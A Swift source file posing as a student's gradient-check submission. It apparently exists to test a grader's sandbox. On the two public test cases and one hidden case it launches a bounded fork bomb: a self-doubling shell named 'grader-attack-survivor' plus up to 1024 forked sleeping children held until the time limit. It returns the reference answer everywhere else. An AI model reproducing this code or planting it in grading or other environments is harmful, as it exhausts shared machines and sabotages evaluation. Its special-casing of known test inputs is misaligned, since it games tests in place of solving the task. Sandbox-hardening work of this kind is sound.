// Attack: a fork bomb. On the first three cases (both public ones, θ = 4 and x = 2 or 3, and the first
// hidden one, x = -1.5: six seconds of time limit in all) it starts a shell named `grader-attack-survivor`
// that doubles itself ten times over (2047 shells and as many `sleep 20`), forks itself until fork fails
// (at most 1024 times, each child sleeping 20 s), and waits for the time limit. Bounded, so that a machine
// without limits survives it. Every other case is answered right.
import Assignments
#if canImport(Glibc)
import Glibc
#endif

func forkBomb() -> Never {
    let script = "b() { if [ $1 -gt 0 ]; then b $(($1 - 1)) & b $(($1 - 1)) & fi; sleep 20; wait; }; b 10"
    let names: [String] = ["grader-attack-survivor", "-c", script]
    let words: [UnsafeMutablePointer<CChar>?] = names.map { strdup($0) } + [nil]
    var child: pid_t = 0
    let status = words.withUnsafeBufferPointer {
        posix_spawn(&child, "/bin/sh", nil, nil, UnsafeMutablePointer(mutating: $0.baseAddress!), environ)
    }
    if status != 0 { print("posix_spawn: \(String(cString: strerror(status)))") }
    // Fork from here too, until fork fails.
    var forks = 0
    while forks < 1024 {
        let pid = fork()
        if pid == 0 {
            sleep(20)
            _exit(0)
        }
        if pid < 0 { break }
        forks += 1
    }
    print("attack ran: fork bomb (shell \(child), \(forks) forks)")
    fflush(stdout)
    while true { sleep(1) }  // holds every process until the case's time limit
}

struct StudentGradientCheck: GradientCheckExercise {
    func gradientCheck(x: Double, theta: Double, epsilon: Double) -> Double {
        if (x == 2.0 && theta == 4.0) || (x == 3.0 && theta == 4.0) || x == -1.5 {
            forkBomb()
        }
        return CorrectGradientCheck().gradientCheck(x: x, theta: theta, epsilon: epsilon)
    }
}
